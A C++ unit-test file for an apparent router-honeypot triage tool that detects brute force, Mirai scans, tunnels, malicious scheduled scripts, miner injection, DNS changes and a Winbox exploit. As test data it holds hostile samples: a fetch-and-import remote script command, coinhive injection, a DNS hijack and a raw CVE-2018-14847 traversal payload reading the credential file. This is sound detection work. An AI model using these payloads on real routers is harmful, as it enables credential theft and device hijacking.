#include <gtest/gtest.h>

#include "support.hpp"
#include "tiktriage/classify.hpp"
#include "tiktriage/flow.hpp"
#include "tiktriage/logparse.hpp"

using namespace tiktriage;
using tt_test::Conversation;
using tt_test::kSec;
using tt_test::kT0;

namespace {

const Ipv4 kAttacker(198, 18, 0, 7);
const Ipv4 kSensorIp(198, 51, 100, 10);

const SignatureDb& bundled() {
  static const SignatureDb db = load_signatures(bundled_signature_dir()).db;
  return db;
}

struct Scene {
  std::vector<PacketRecord> packets;
  std::vector<LogEvent> logs;

  void log(const std::string& sensor, Micros ts, const std::string& topics, const std::string& message) {
    std::string line = format_datetime(ts) + " " + topics + " " + message;
    LogEvent ev = parse_log_line(line, sensor);
    ev.file = "test.log";
    ev.line = logs.size() + 1;
    logs.push_back(std::move(ev));
  }

  ClassifyResult run(const ClassifyParams& params = {}) const {
    const auto flows = assemble_flows(packets);
    const auto streams = reassemble_all(flows, packets);
    return classify_all(packets, flows, streams, logs, bundled(), params);
  }
};

std::size_t count(const ClassifyResult& r, AttackCategory c) {
  return static_cast<std::size_t>(
      std::count_if(r.events.begin(), r.events.end(), [&](const AttackEvent& e) { return e.category == c; }));
}

const AttackEvent& only(const ClassifyResult& r, AttackCategory c) {
  EXPECT_EQ(count(r, c), 1u) << to_string(c);
  return *std::find_if(r.events.begin(), r.events.end(), [&](const AttackEvent& e) { return e.category == c; });
}

void add_syn(Scene& s, Ipv4 src, std::uint16_t sport, std::uint16_t dport, Micros ts, std::uint32_t seq = 1) {
  s.packets.push_back(tt_test::tcp("s1", src, sport, kSensorIp, dport, ts, tcp_flag::kSyn, seq));
}

void pptp_session(Scene& s, Ipv4 client, std::uint16_t cport, Micros t0, std::uint8_t result) {
  Conversation c("s1", client, cport, kSensorIp, 1723, t0);
  c.handshake().client(tt_test::pptp_message(1, 0)).server(tt_test::pptp_message(2, result)).fin();
  c.append_to(s.packets);
}

}  // namespace

TEST(BruteForce, TenAttemptsInOneMinuteAtThresholdTen) {
  Scene s;
  for (int i = 0; i < 10; ++i) add_syn(s, kAttacker, static_cast<std::uint16_t>(40000 + i), 22, kT0 + i * 5 * kSec);
  ClassifyParams params;
  params.bruteforce.threshold = 10;
  const auto r = s.run(params);
  const auto& ev = only(r, AttackCategory::BruteForce);
  EXPECT_EQ(ev.src_ip, kAttacker);
  EXPECT_EQ(ev.service, "SSH");
  EXPECT_EQ(ev.ts_start, kT0);
  EXPECT_EQ(ev.ts_end, kT0 + 45 * kSec);
  EXPECT_EQ(ev.attributes.at("attempts"), "10");
  EXPECT_EQ(r.bruteforce.attempts.at("SSH"), 10u);

  Scene nine;
  for (int i = 0; i < 9; ++i) add_syn(nine, kAttacker, static_cast<std::uint16_t>(40000 + i), 22, kT0 + i * kSec);
  EXPECT_EQ(count(nine.run(params), AttackCategory::BruteForce), 0u);

  Scene spread;
  for (int i = 0; i < 10; ++i) add_syn(spread, kAttacker, static_cast<std::uint16_t>(40000 + i), 22, kT0 + i * 7 * kSec);
  EXPECT_EQ(count(spread.run(params), AttackCategory::BruteForce), 0u);
}

TEST(BruteForce, FlowAndLogOfOneAttemptCountOnce) {
  Scene s;
  for (int i = 0; i < 5; ++i) {
    add_syn(s, kAttacker, static_cast<std::uint16_t>(40000 + i), 23, kT0 + i * kSec);
    s.log("s1", kT0 + i * kSec, "system,error,critical",
          "login failure for user admin from " + kAttacker.to_string() + " via telnet");
  }
  const auto r = s.run();
  EXPECT_EQ(r.bruteforce.attempts.at("TELNET"), 5u);
  EXPECT_EQ(only(r, AttackCategory::BruteForce).evidence.size(), 10u);
}

TEST(BruteForce, MatchesWindowOracleProperty) {
  Rng rng(91);
  for (int round = 0; round < 300; ++round) {
    const std::int64_t window = 1 + static_cast<std::int64_t>(rng.below(90));
    const std::size_t threshold = 1 + rng.below(8);
    std::map<std::int64_t, std::pair<std::uint64_t, std::uint64_t>> per_second;  // flows, logs
    Scene s;
    std::uint16_t sport = 1024;
    for (std::uint64_t k = 0, n = rng.below(40); k < n; ++k) {
      const std::int64_t sec = static_cast<std::int64_t>(rng.below(600));
      const Micros ts = kT0 + sec * kSec + static_cast<Micros>(rng.below(1000000));
      if (rng.chance(0.5)) {
        add_syn(s, kAttacker, sport++, 22, ts);
        ++per_second[sec].first;
      } else {
        s.log("s1", ts, "system,error", "login failure for user root from " + kAttacker.to_string() + " via ssh");
        ++per_second[sec].second;
      }
    }
    // Oracle: chain seconds whose gap is at most the window, then take the
    // best count over every [t, t + window) inside a chain.
    std::vector<std::pair<std::int64_t, std::uint64_t>> secs;
    for (auto& [sec, fl] : per_second) secs.emplace_back(sec, std::max(fl.first, fl.second));
    std::size_t expected = 0;
    std::uint64_t expected_attempts = 0;
    for (std::size_t a = 0; a < secs.size();) {
      std::size_t b = a + 1;
      while (b < secs.size() && secs[b].first - secs[b - 1].first <= window) ++b;
      std::uint64_t peak = 0;
      for (std::size_t i = a; i < b; ++i) {
        std::uint64_t sum = 0;
        for (std::size_t j = i; j < b && secs[j].first < secs[i].first + window; ++j) sum += secs[j].second;
        peak = std::max(peak, sum);
      }
      if (peak >= threshold) ++expected;
      for (std::size_t i = a; i < b; ++i) expected_attempts += secs[i].second;
      a = b;
    }
    BruteForceParams params{window * kSec, threshold};
    const auto flows = assemble_flows(s.packets);
    const auto got = detect_bruteforce(flows, s.logs, params);
    ASSERT_EQ(got.events.size(), expected) << "round " << round;
    EXPECT_EQ(got.attempts.count("SSH") ? got.attempts.at("SSH") : 0u, expected_attempts);
  }
}

TEST(BruteForce, IpOverlapIsJaccard) {
  Scene s;
  std::uint16_t sport = 1000;
  for (int ip = 1; ip <= 6; ++ip) add_syn(s, Ipv4(198, 18, 1, static_cast<std::uint8_t>(ip)), sport++, 22, kT0);
  for (int ip = 4; ip <= 10; ++ip) add_syn(s, Ipv4(198, 18, 1, static_cast<std::uint8_t>(ip)), sport++, 23, kT0);
  const auto r = detect_bruteforce(assemble_flows(s.packets), {});
  EXPECT_EQ(r.ssh_ips, 6u);
  EXPECT_EQ(r.telnet_ips, 7u);
  EXPECT_EQ(r.both_ips, 3u);
  EXPECT_DOUBLE_EQ(r.ip_overlap, 3.0 / 10.0);
  EXPECT_DOUBLE_EQ(detect_bruteforce({}, {}).ip_overlap, 0.0);
}

TEST(Mirai, SequenceEqualsDestination) {
  Scene s;
  add_syn(s, kAttacker, 5000, 23, kT0, kSensorIp.value);
  add_syn(s, kAttacker, 5001, 2323, kT0 + 90 * kSec, kSensorIp.value);
  add_syn(s, kAttacker, 5002, 23, kT0 + kMicrosPerDay, kSensorIp.value);
  add_syn(s, Ipv4(198, 18, 0, 8), 5000, 23, kT0, kSensorIp.value + 1);
  add_syn(s, Ipv4(198, 18, 0, 9), 5000, 80, kT0, kSensorIp.value);
  s.packets.push_back(
      tt_test::tcp("s1", Ipv4(198, 18, 0, 10), 5000, kSensorIp, 23, kT0, tcp_flag::kSyn | tcp_flag::kAck, kSensorIp.value));
  const auto r = s.run();
  ASSERT_EQ(count(r, AttackCategory::MiraiScan), 2u);
  const auto& first = *std::find_if(r.events.begin(), r.events.end(),
                                    [](const AttackEvent& e) { return e.category == AttackCategory::MiraiScan; });
  EXPECT_EQ(first.src_ip, kAttacker);
  EXPECT_EQ(first.attributes.at("probes"), "2");
  EXPECT_EQ(first.ts_end, kT0 + 90 * kSec);
}

TEST(Mirai, RandomSynsAgreeWithDefinitionProperty) {
  Rng rng(92);
  std::size_t expected = 0;
  std::size_t got = 0;
  for (int i = 0; i < 200000; ++i) {
    PacketRecord p = tt_test::tcp("s", Ipv4(static_cast<std::uint32_t>(rng.next())), 1,
                                  Ipv4(static_cast<std::uint32_t>(rng.next())), rng.chance(0.5) ? 23 : 2323, 0,
                                  static_cast<std::uint8_t>(rng.below(64)), static_cast<std::uint32_t>(rng.next()));
    if (rng.chance(0.01)) p.tcp_seq = p.dst_ip.value;
    const bool syn_only = p.has(tcp_flag::kSyn) && !p.has(tcp_flag::kAck);
    expected += syn_only && p.tcp_seq == p.dst_ip.value;
    got += is_mirai_probe(p);
  }
  EXPECT_EQ(got, expected);
  EXPECT_GT(expected, 100u);
}

TEST(Tunnels, WireHandshakeNeedsResultOne) {
  Scene ok;
  pptp_session(ok, kAttacker, 3000, kT0, 1);
  const auto r_ok = ok.run();
  const auto& ev = only(r_ok, AttackCategory::TunnelEstablished);
  EXPECT_EQ(ev.tunnel_endpoint, kAttacker);
  EXPECT_EQ(ev.service, "PPTP");
  EXPECT_EQ(ev.attributes.at("source"), "wire");
  for (std::uint8_t result : {0, 2, 3, 4, 5}) {
    Scene bad;
    pptp_session(bad, kAttacker, 3000, kT0, result);
    EXPECT_EQ(count(bad.run(), AttackCategory::TunnelEstablished), 0u) << int(result);
  }
}

TEST(Tunnels, LogMergesWithinWindow) {
  Scene s;
  pptp_session(s, kAttacker, 3000, kT0, 1);
  s.log("s1", kT0 + 300 * kSec, "pptp,info", "pptp tunnel established to " + kAttacker.to_string());
  const auto r_s = s.run();
  const auto& ev = only(r_s, AttackCategory::TunnelEstablished);
  EXPECT_EQ(ev.attributes.at("source"), "wire+log");
  EXPECT_EQ(ev.ts_end, kT0 + 300 * kSec);

  Scene apart;
  pptp_session(apart, kAttacker, 3000, kT0, 1);
  apart.log("s1", kT0 + 302 * kSec, "pptp,info", "pptp tunnel established to " + kAttacker.to_string());
  apart.log("s1", kT0, "sstp,info", "sstp tunnel established to 192.0.2.30");
  const auto r = apart.run();
  EXPECT_EQ(count(r, AttackCategory::TunnelEstablished), 3u);
}

TEST(Logins, SuccessLinesBecomeEvents) {
  Scene s;
  s.log("s1", kT0, "system,info,account", "user admin logged in from 198.18.0.7 via winbox");
  s.log("s1", kT0, "system,info,account", "user admin logged in via local");
  const auto r_s = s.run();
  const auto& ev = only(r_s, AttackCategory::LoginSuccess);
  EXPECT_EQ(ev.service, "WINBOX");
  EXPECT_EQ(ev.attributes.at("user"), "admin");
}

TEST(Scripts, LogScriptsUseTheSessionSource) {
  Scene s;
  s.log("s1", kT0, "system,info,account", "user admin logged in from 198.18.0.7 via api");
  s.log("s1", kT0 + 5 * kSec, "system,info,account", "user ops logged in from 198.18.0.99 via api");
  s.log("s1", kT0 + 10 * kSec, "script,info",
        "new script scheduled by admin: /tool fetch url=http://203.0.113.9/a.rsc; /import a.rsc");
  const auto r = s.run();
  const auto& ev = only(r, AttackCategory::ScriptScheduled);
  EXPECT_EQ(ev.src_ip, kAttacker);
  EXPECT_EQ(ev.attributes.at("source"), "log");
  EXPECT_EQ(ev.attributes.at("fetch_urls"), "http://203.0.113.9/a.rsc");
  EXPECT_EQ(ev.attributes.at("actions"), "/import=1;/tool fetch=1");
}

TEST(Scripts, NetworkCopyOfLoggedScriptIsSuppressed) {
  const std::string body = "/system scheduler add name=x on-event=y";
  Scene s;
  Conversation c("s1", kAttacker, 4444, kSensorIp, 8728, kT0);
  c.handshake().client("POST /rest/system/script HTTP/1.1\r\n\r\n" + body + "\n").fin();
  c.append_to(s.packets);
  const auto first_run = s.run();
  EXPECT_EQ(only(first_run, AttackCategory::ScriptScheduled).attributes.at("source"), "network");
  s.log("s1", kT0 + 3600 * kSec, "script,info", "new script scheduled by admin: " + body);
  const auto r = s.run();
  EXPECT_EQ(only(r, AttackCategory::ScriptScheduled).attributes.at("source"), "log");
}

TEST(Miner, ScriptAndHtmlForms) {
  Scene s;
  s.log("s1", kT0, "script,info",
        "new script scheduled by admin: /ip proxy set enabled=yes port=8080; /ip proxy access add action=deny "
        "redirect-to=x/coinhive.min.js; /ip firewall nat add chain=dstnat protocol=tcp dst-port=80 "
        "action=redirect to-ports=8080");
  Conversation c("s1", Ipv4(198, 18, 0, 50), 5555, kSensorIp, 80, kT0);
  c.handshake().client("PUT /index.html HTTP/1.1\r\n\r\n<script src=\"https://coinhive.com/lib/coinhive.min.js\">").fin();
  c.append_to(s.packets);
  const auto r = s.run();
  EXPECT_EQ(count(r, AttackCategory::MinerInjection), 2u);
  EXPECT_EQ(count(r, AttackCategory::ScriptScheduled), 1u);

  Scene no_nat;
  no_nat.log("s1", kT0, "script,info", "new script scheduled by admin: /ip proxy set enabled=yes coinhive.min.js");
  EXPECT_EQ(count(no_nat.run(), AttackCategory::MinerInjection), 0u);
}

TEST(Dns, ScriptAndLogMergePerDay) {
  Scene s;
  s.log("s1", kT0, "system,info,account", "user admin logged in from 198.18.0.7 via winbox");
  s.log("s1", kT0 + 60 * kSec, "script,info", "new script scheduled by admin: /ip dns set servers=203.0.113.5,8.8.8.8");
  s.log("s1", kT0 + 61 * kSec, "system,info", "DNS changed by admin");
  s.log("s1", kT0 + kMicrosPerDay, "system,info", "DNS changed by admin");
  const auto r = s.run();
  ASSERT_EQ(count(r, AttackCategory::DnsChanger), 2u);
  const auto& first = *std::find_if(r.events.begin(), r.events.end(),
                                    [](const AttackEvent& e) { return e.category == AttackCategory::DnsChanger; });
  EXPECT_EQ(first.src_ip, kAttacker);
  EXPECT_EQ(first.attributes.at("source"), "script+log");
  EXPECT_EQ(first.attributes.at("resolver"), "203.0.113.5,8.8.8.8");
}

TEST(NetworkSignatures, WinboxTraversal) {
  using namespace std::literals;
  Scene s;
  Conversation c("s1", kAttacker, 6000, kSensorIp, 8291, kT0);
  c.handshake().client("\x68\x01\x00\x66M2\x05\x00\xff\x01\x06\x00\xff\x09\x05\x07\x00\xff\x09\x07\x01\x00\x00\x21\x35/././.."
                       "/././../././../flash/rw/store/user.dat"sv).server("\x00"sv).fin();
  c.append_to(s.packets);
  const auto r = s.run();
  const auto& ev = only(r, AttackCategory::CveExploit);
  EXPECT_EQ(ev.cve_id, "CVE-2018-14847");
  EXPECT_EQ(ev.signature_id, "mt-cve-2018-14847-winbox-traversal");
  EXPECT_EQ(ev.service, "WINBOX");
}

TEST(NetworkSignatures, LogSignatureRule) {
  Scene s;
  s.log("s1", kT0, "system,info", "PPP profile <default> changed by admin");
  const auto r_s = s.run();
  const auto& ev = only(r_s, AttackCategory::OtherSignature);
  EXPECT_EQ(ev.signature_id, "log-ppp-profile-change");
}

TEST(Benign, OrdinaryTrafficRaisesNothing) {
  Scene s;
  for (int i = 0; i < 20; ++i) {
    Conversation c("s1", Ipv4(100, 64, 0, static_cast<std::uint8_t>(i + 1)), static_cast<std::uint16_t>(30000 + i),
                   kSensorIp, 80, kT0 + i * 30 * kSec);
    c.handshake().client("GET / HTTP/1.1\r\nHost: x\r\n\r\n").server("HTTP/1.1 200 OK\r\n\r\n<html></html>").fin();
    c.append_to(s.packets);
  }
  s.log("s1", kT0, "interface,info", "ether1 link up (speed 1G, full duplex)");
  EXPECT_TRUE(s.run().events.empty());
}

TEST(Events, IdsAreStableAndSorted) {
  Scene s;
  pptp_session(s, kAttacker, 3000, kT0 + 100 * kSec, 1);
  add_syn(s, kAttacker, 5000, 23, kT0, kSensorIp.value);
  const auto a = s.run();
  auto shuffled = s;
  Rng rng(93);
  rng.shuffle(shuffled.packets);
  const auto b = shuffled.run();
  ASSERT_EQ(a.events.size(), b.events.size());
  for (std::size_t i = 0; i < a.events.size(); ++i) EXPECT_EQ(a.events[i].event_id, b.events[i].event_id);
  for (std::size_t i = 1; i < a.events.size(); ++i) EXPECT_LE(a.events[i - 1].ts_start, a.events[i].ts_start);
}
